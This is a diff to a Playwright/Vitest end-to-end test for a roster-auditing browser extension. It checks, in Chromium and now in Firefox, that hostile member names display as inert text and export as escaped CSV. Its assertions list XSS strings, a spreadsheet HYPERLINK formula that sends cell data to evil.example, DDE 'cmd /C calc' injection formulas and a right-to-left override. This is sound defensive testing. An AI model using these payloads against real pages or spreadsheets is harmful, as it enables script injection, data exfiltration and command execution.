@@ -4,7 +4,10 @@ import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readCsv } from '../../lib/csv/read';
 import { isLiveFormula } from '../fixtures/hostile-files';
-import { auditThroughPopup, downloadExport, setInternalDomains, startSession, type Session } from './harness';
+import type { BrowserUnderTest } from '../../scripts/lib/browser';
+import { findFirefox } from '../../scripts/lib/firefox';
+import { typeInto } from '../../scripts/lib/journey';
+import { auditThroughPopup, downloadExport, setInternalDomains, startFirefoxSession, startSession, type Session } from './harness';
 
 /**
  * A roster page whose names and cells are attacks (markup, scripts, `javascript:` links, template and
@@ -34,7 +37,7 @@ const distinctHostile = [...new Map(hostileRows.map((m) => [`${m.name}|${/@/.tes
 const LARGE_ROWS = Number(process.env.ROSTER_AUDIT_HOSTILE_ROWS ?? 200_000);
 
 /** How many members a snapshot holds in the extension's cache, and its last one. */
-async function storedMembers(session: Session, snapshotId: string): Promise<{ count: number; last: { name: string; classification: string } | undefined }> {
+async function storedMembers(session: Session<BrowserUnderTest>, snapshotId: string): Promise<{ count: number; last: { name: string; classification: string } | undefined }> {
   const page = await session.openDashboard('#/data');
   try {
     return await page.evaluate(
@@ -100,6 +103,77 @@ async function textHolders(page: Page, scope: string, text: string): Promise<{ t
   );
 }
 
+/**
+ * Audits hostile.html through the popup, then looks at every hostile value in the roster, the
+ * member detail, the findings and an export: all text, nothing run, each isolated in direction.
+ */
+async function auditHostilePage(session: Session<BrowserUnderTest>, dialogs: readonly string[]): Promise<void> {
+  expect(distinctHostile.length).toBeGreaterThanOrEqual(14);
+  const consolePage = await session.openConsole('intranet.example.com', '/hostile.html');
+  const { status, popup } = await auditThroughPopup(session, consolePage);
+  expect(status).toContain('Audit complete');
+  await popup.close();
+  const { snapshot, members } = await session.readSnapshot('latest');
+  expect(snapshot.complete).toBe(true);
+  expect(members.map((m) => m.name)).toEqual(expected.members.map((m) => m.name));
+
+  const dashboard = await session.openDashboard(`#/snapshots/${snapshot.id}`);
+  const table = dashboard.getByRole('table', { name: 'Members', exact: true });
+  const search = dashboard.getByRole('searchbox', { name: 'Search' });
+  await expect.poll(() => table.getByRole('row').count(), { timeout: 60_000 }).toBeGreaterThan(10);
+  for (const member of distinctHostile) {
+    const shown = member.name || member.identifier;
+    await typeInto(search, /@/.test(member.identifier) ? member.identifier : shown);
+    const name = table.locator('.col-name button').filter({ hasText: shown });
+    await expect.poll(() => name.count(), { timeout: 30_000, message: shown }).toBeGreaterThan(0);
+    // The text appears as written, in an element that isolates its direction.
+    const holders = await textHolders(dashboard, '.vtable .col-name', shown);
+    expect(holders.length, shown).toBeGreaterThan(0);
+    expect(holders.every((holder) => holder.isolated), `${shown} isolated in the roster: ${JSON.stringify(holders)}`).toBe(true);
+    if (member.identifier) {
+      const identifiers = await textHolders(dashboard, '.vtable .col-identifier', member.identifier);
+      expect(identifiers.length > 0 && identifiers.every((holder) => holder.isolated), `${member.identifier} isolated`).toBe(true);
+    }
+
+    await name.first().click();
+    const detail = dashboard.locator('aside.member-detail');
+    await expect.poll(() => detail.locator('#member-detail-heading').textContent()).toBe(shown);
+    const inDetail = await textHolders(dashboard, 'aside.member-detail', shown);
+    expect(inDetail.length, `${shown} in the detail`).toBeGreaterThanOrEqual(2);
+    expect(inDetail.every((holder) => holder.isolated), `${shown} isolated in the detail: ${JSON.stringify(inDetail)}`).toBe(true);
+    expect(await domIntrusions(dashboard), shown).toEqual([]);
+  }
+
+  // A change of hash, as a link in the dashboard makes it (Firefox reports no navigation event for one on an add-on page).
+  await dashboard.evaluate((hash) => {
+    location.hash = hash;
+  }, `#/findings?snapshot=${snapshot.id}`);
+  await expect.poll(() => dashboard.getByText('External domain', { exact: false }).count(), { timeout: 30_000 }).toBeGreaterThan(0);
+  expect(await domIntrusions(dashboard)).toEqual([]);
+
+  const { bytes, page: exportPage } = await downloadExport(session, { snapshot: snapshot.id, format: 'audit-report' });
+  expect(await domIntrusions(exportPage)).toEqual([]);
+  const report = readCsv(bytes);
+  if (!report.ok) throw new Error(report.error.message.en);
+  expect(report.rows).toHaveLength(expected.members.length);
+  for (const [index, row] of report.rows.entries()) {
+    for (const [column, cell] of row.entries()) {
+      expect(isLiveFormula(cell), `row ${index + 1} ${report.headers[column]}: ${JSON.stringify(cell.slice(0, 80))}`).toBe(false);
+    }
+  }
+  const names = report.rows.map((row) => row[2]);
+  expect(names).toContain('<img src=x onerror=alert(1)>');
+  expect(names).toContain('<script>alert("roster")</script>');
+  expect(names).toContain(`'=HYPERLINK("https://evil.example/?d="&A1,"詳細")`);
+  expect(names).toContain("'+cmd|' /C calc'!A0");
+  expect(names).toContain("'-2+3+cmd|' /C calc'!A0");
+  expect(names).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
+  expect(names).toContain('山田\u202e 太郎');
+
+  expect(await domIntrusions(consolePage)).toEqual(expect.not.arrayContaining(['img src=x']));
+  expect(dialogs).toEqual([]);
+}
+
 describe('hostile pages', () => {
   let session: Session;
   const dialogs: string[] = [];
@@ -120,67 +194,7 @@ describe('hostile pages', () => {
   });
 
   it('audits hostile.html and shows every hostile value as text, in the roster, the member detail, the findings and an export', { timeout: 300_000 }, async () => {
-    expect(distinctHostile.length).toBeGreaterThanOrEqual(14);
-    const consolePage = await session.openConsole('intranet.example.com', '/hostile.html');
-    const { status, popup } = await auditThroughPopup(session, consolePage);
-    expect(status).toContain('Audit complete');
-    await popup.close();
-    const { snapshot, members } = await session.readSnapshot('latest');
-    expect(snapshot.complete).toBe(true);
-    expect(members.map((m) => m.name)).toEqual(expected.members.map((m) => m.name));
-
-    const dashboard = await session.openDashboard(`#/snapshots/${snapshot.id}`);
-    const table = dashboard.getByRole('table', { name: 'Members', exact: true });
-    const search = dashboard.getByRole('searchbox', { name: 'Search' });
-    await expect.poll(() => table.getByRole('row').count(), { timeout: 60_000 }).toBeGreaterThan(10);
-    for (const member of distinctHostile) {
-      const shown = member.name || member.identifier;
-      await search.fill(/@/.test(member.identifier) ? member.identifier : shown);
-      const name = table.locator('.col-name button').filter({ hasText: shown });
-      await expect.poll(() => name.count(), { timeout: 30_000, message: shown }).toBeGreaterThan(0);
-      // The text appears as written, in an element that isolates its direction.
-      const holders = await textHolders(dashboard, '.vtable .col-name', shown);
-      expect(holders.length, shown).toBeGreaterThan(0);
-      expect(holders.every((holder) => holder.isolated), `${shown} isolated in the roster: ${JSON.stringify(holders)}`).toBe(true);
-      if (member.identifier) {
-        const identifiers = await textHolders(dashboard, '.vtable .col-identifier', member.identifier);
-        expect(identifiers.length > 0 && identifiers.every((holder) => holder.isolated), `${member.identifier} isolated`).toBe(true);
-      }
-
-      await name.first().click();
-      const detail = dashboard.locator('aside.member-detail');
-      await expect.poll(() => detail.locator('#member-detail-heading').textContent()).toBe(shown);
-      const inDetail = await textHolders(dashboard, 'aside.member-detail', shown);
-      expect(inDetail.length, `${shown} in the detail`).toBeGreaterThanOrEqual(2);
-      expect(inDetail.every((holder) => holder.isolated), `${shown} isolated in the detail: ${JSON.stringify(inDetail)}`).toBe(true);
-      expect(await domIntrusions(dashboard), shown).toEqual([]);
-    }
-
-    await dashboard.goto(dashboard.url().replace(/#.*/, `#/findings?snapshot=${snapshot.id}`));
-    await expect.poll(() => dashboard.getByText('External domain', { exact: false }).count(), { timeout: 30_000 }).toBeGreaterThan(0);
-    expect(await domIntrusions(dashboard)).toEqual([]);
-
-    const { bytes, page: exportPage } = await downloadExport(session, { snapshot: snapshot.id, format: 'audit-report' });
-    expect(await domIntrusions(exportPage)).toEqual([]);
-    const report = readCsv(bytes);
-    if (!report.ok) throw new Error(report.error.message.en);
-    expect(report.rows).toHaveLength(expected.members.length);
-    for (const [index, row] of report.rows.entries()) {
-      for (const [column, cell] of row.entries()) {
-        expect(isLiveFormula(cell), `row ${index + 1} ${report.headers[column]}: ${JSON.stringify(cell.slice(0, 80))}`).toBe(false);
-      }
-    }
-    const names = report.rows.map((row) => row[2]);
-    expect(names).toContain('<img src=x onerror=alert(1)>');
-    expect(names).toContain('<script>alert("roster")</script>');
-    expect(names).toContain(`'=HYPERLINK("https://evil.example/?d="&A1,"詳細")`);
-    expect(names).toContain("'+cmd|' /C calc'!A0");
-    expect(names).toContain("'-2+3+cmd|' /C calc'!A0");
-    expect(names).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
-    expect(names).toContain('山田\u202e 太郎');
-
-    expect(await domIntrusions(consolePage)).toEqual(expect.not.arrayContaining(['img src=x']));
-    expect(dialogs).toEqual([]);
+    await auditHostilePage(session, dialogs);
   });
 
   it(`keeps a ${LARGE_ROWS.toLocaleString('en')}-row page responsive while the audit runs, and shows progress`, { timeout: 1_500_000 }, async () => {
@@ -299,5 +313,27 @@ describe('pages that try to stall or fool the reader', () => {
     const read = await session.readSnapshot('latest');
     expect(new Set(read.members.map((m) => m.normalizedEmail)).size).toBe(read.members.length);
     await fake.close();
+  });
+});
+
+describe.skipIf(!findFirefox())('hostile pages in Firefox', () => {
+  let session: Session<BrowserUnderTest>;
+  const dialogs: string[] = [];
+  beforeAll(async () => {
+    session = await startFirefoxSession();
+    session.browser.context.on('page', (page) =>
+      page.on('dialog', (dialog) => {
+        dialogs.push(`${page.url()}: ${dialog.message()}`);
+        void dialog.dismiss();
+      }),
+    );
+    await setInternalDomains(session, expected.policy.internalDomains);
+  }, 180_000);
+  afterAll(async () => {
+    await session?.close();
+  });
+
+  it('audits hostile.html and shows every hostile value as text, in the roster, the member detail, the findings and an export', { timeout: 300_000 }, async () => {
+    await auditHostilePage(session, dialogs);
   });
 });
